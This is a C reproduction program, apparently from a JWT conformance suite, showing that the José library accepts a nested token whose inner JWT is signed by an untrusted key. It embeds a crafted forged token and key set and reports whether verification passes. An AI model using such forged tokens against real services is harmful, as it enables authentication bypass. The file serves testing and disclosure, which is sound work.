/* José 11 accepts a nested token whose inner token is signed by a key the verifier does not
 * trust: the outer JWS (cty "JWT", signed by the pinned key) verifies, and José, a JWS library,
 * never reads cty or the payload. A verifier must reject it: read as nested (RFC 7519 §7.2 step
 * 8) the inner token's key is untrusted; read as flat, the payload is no JSON claims set.
 *
 * RFC 8725 §3.3 (RFC8725-3.3-crypto); RFC 7519 §7.2.
 *
 * Reproduces: serialization/nested-inner-attacker-key (forgery)
 *
 * José is configured exactly as the jwt-conformance adapter does (adapters/latchset-
 * jose/adapter.c): the compact token turned into the flattened JWS object as the jose command's
 * reader does, the key set parsed with jansson and given whole to jose_jws_ver(NULL, jws, NULL,
 * set, false). José verifies signatures only and has no algorithm, issuer, audience, clock or typ
 * setting (the vector's profile: issuer https://issuer.example, audience https://api.example,
 * algorithms [ES256], now 1700000000).
 *
 * Run (Debian libjose-dev installed): bash scripts/setup/c.sh && adapters/latchset-jose/bin/repro-nested
 * or: gcc -o repro-nested adapters/latchset-jose/repro-nested.c $(pkg-config --cflags --libs jose jansson) && ./repro-nested
 */
#include <stdbool.h>
#include <stdio.h>
#include <string.h>

#include <jose/jose.h>

#define ID "serialization/nested-inner-attacker-key"
#define WHAT "a cty JWT token whose inner token is signed by an attacker's key"

static const char TOKEN[] =
    "eyJhbGciOiJFUzI1NiIsImN0eSI6IkpXVCIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ.ZXlKaGJHY2lPaUpGVXpJM"
    "U5pSXNJbXRwWkNJNkluQnlhVzFoY25raUxDSjBlWEFpT2lKaGRDdHFkM1FpZlEuZXlKaGRXUWlPaUpvZEhSd2N6b3ZMMkZ3YVM1b"
    "GVHRnRjR3hsSWl3aVkyeHBaVzUwWDJsa0lqb2lZMnhwWlc1MExURWlMQ0psZUhBaU9qUXhNREkwTkRRNE1EQXNJbWxoZENJNk1UQ"
    "XdNREF3TURBd01Dd2lhWE56SWpvaWFIUjBjSE02THk5cGMzTjFaWEl1WlhoaGJYQnNaU0lzSW1wMGFTSTZJbXAwYVMwd01EQXhJa"
    "XdpYzNWaUlqb2lNREZJV2xreVNqTkxORTAxVGpaUU4xRTRVamxUTUZReFZqSWlmUS5nX1Y2c2t5TzVnQ1hBMWY5MmIzZ0hhSjlwR"
    "05QS1I0dmJxTzhiVFM1YVVoYzZhWlh4Rm81dXNVb3Rja1FFT0lta04wTzh3SEw3cDB1T0M4OC1DQ1VRZw.NJCMqiXkkDuGTfdjbp"
    "fio1TbPMdPnm6fXWRGqv8rldCJHyW-hOIVWmRcPmILUFM4CnBCOcfi4nKQ7h6U-mUmFw";
static const char JWKS[] =
    "{\"keys\":[{\"alg\":\"ES256\",\"crv\":\"P-256\",\"kid\":\"primary\",\"kty\":\"EC\",\"use\":\"sig\",\"x\":\"Og9O0oqYw6X3WZLhEr"
    "umXMqF78CgL9XjmicCJocZZuE\",\"y\":\"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI\"}]}";

/* The flattened JWS object José's compact reader (cmd/jose.c parse_compact) makes of a token,
 * exactly as the adapter builds it (libjose takes JSON JWS objects only). */
static json_t *compact_to_json(const char *token, size_t len)
{
    static const char *const fields[] = {"protected", "payload", "signature"};
    json_t *jws = json_object();
    size_t i = 0;
    for (size_t j = 0; j < 3 && jws; j++) {
        const char *dot = i < len ? memchr(token + i, '.', len - i) : NULL;
        size_t n = dot ? (size_t)(dot - (token + i)) : i < len ? len - i : 0;
        if (!dot && j < 2)
            goto refused;
        for (size_t k = 0; k < n; k++)
            if (!strchr(JOSE_B64_MAP, token[i + k]))
                goto refused;
        if (json_object_set_new(jws, fields[j], json_stringn(token + i, n)) < 0)
            goto refused;
        i += n + 1;
    }
    return jws;
refused:
    json_decref(jws);
    return NULL;
}

int main(void)
{
    json_t *set = json_loads(JWKS, JSON_ALLOW_NUL, NULL);
    json_t *jws = compact_to_json(TOKEN, strlen(TOKEN));
    bool accepted = set && jws && jose_jws_ver(NULL, jws, NULL, set, false);
    json_t *claims = accepted ? jose_b64_dec_load(json_object_get(jws, "payload")) : NULL;
    const char *sub = json_string_value(json_object_get(claims, "sub"));
    if (accepted)
        printf("REPRODUCED %s: jose_jws_ver accepted %s (sub \"%s\")\n", ID, WHAT, sub ? sub : "?");
    else
        printf("NOT REPRODUCED %s: jose_jws_ver refused the token\n", ID);
    json_decref(claims);
    json_decref(jws);
    json_decref(set);
    return accepted ? 0 : 1;
}
